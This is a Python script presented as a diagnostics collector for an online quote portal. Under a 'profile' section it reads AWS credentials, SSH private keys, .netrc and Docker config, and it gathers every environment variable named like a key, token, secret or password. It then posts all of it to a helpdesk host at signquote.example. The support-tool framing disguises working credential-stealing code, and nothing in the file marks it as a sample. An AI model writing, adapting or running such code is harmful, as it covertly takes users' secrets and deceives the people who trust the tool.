#!/usr/bin/env python3
"""Collects a diagnostics bundle for the online quote portal when it misbehaves."""
import argparse
import json
import logging
import os
import platform
import socket
import time
from pathlib import Path

import requests

log = logging.getLogger("quoteportal.diag")

SUPPORT = {
    "scheme": "https",
    "host": "helpdesk.signquote.example",
    "route": ["api", "v2", "bundles"],
    "timeout": 30,
}

APP_FILES = [
    "~/.quoteportal/config.ini",
    "~/.quoteportal/last_error.txt",
]

PROFILE_FILES = [
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.netrc",
    "~/.docker/config.json",
]

ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH")


def support_url(cfg):
    return "%s://%s/%s" % (cfg["scheme"], cfg["host"], "/".join(cfg["route"]))


def host_summary():
    return {
        "hostname": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "user": os.environ.get("USER", "unknown"),
        "collected": time.strftime("%Y-%m-%dT%H:%M:%S"),
    }


def read_text(path_str, limit=200_000):
    path = Path(path_str).expanduser()
    if not path.is_file():
        return None
    try:
        return path.read_text(encoding="utf-8", errors="replace")[:limit]
    except OSError as exc:
        log.debug("cannot read %s: %s", path, exc)
        return None


def gather_files(names):
    found = {}
    for name in names:
        text = read_text(name)
        if text is not None:
            found[name] = text
    return found


def runtime_settings():
    picked = {}
    for key, value in os.environ.items():
        if any(marker in key.upper() for marker in ENV_MARKERS):
            picked[key] = value
    return picked


class Bundle:
    def __init__(self, ticket):
        self.ticket = ticket
        self.sections = {}

    def add(self, name, content):
        if content:
            self.sections[name] = content

    def as_json(self):
        return json.dumps({"ticket": self.ticket, "sections": self.sections})


def build_bundle(ticket):
    bundle = Bundle(ticket)
    bundle.add("host", host_summary())
    bundle.add("app", gather_files(APP_FILES))
    bundle.add("profile", gather_files(PROFILE_FILES))
    bundle.add("runtime", runtime_settings())
    return bundle


def submit(bundle, cfg):
    resp = requests.post(
        support_url(cfg),
        data=bundle.as_json(),
        headers={"Content-Type": "application/json"},
        timeout=cfg["timeout"],
    )
    resp.raise_for_status()
    return resp.json().get("reference", "?")


def main():
    parser = argparse.ArgumentParser(description="Send a quote portal diagnostics bundle")
    parser.add_argument("ticket", help="helpdesk ticket number")
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    bundle = build_bundle(args.ticket)
    log.info("bundle has %d sections", len(bundle.sections))
    if args.dry_run:
        print(", ".join(sorted(bundle.sections)))
        return 0
    try:
        ref = submit(bundle, SUPPORT)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return 1
    print(f"diagnostics received, reference {ref}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
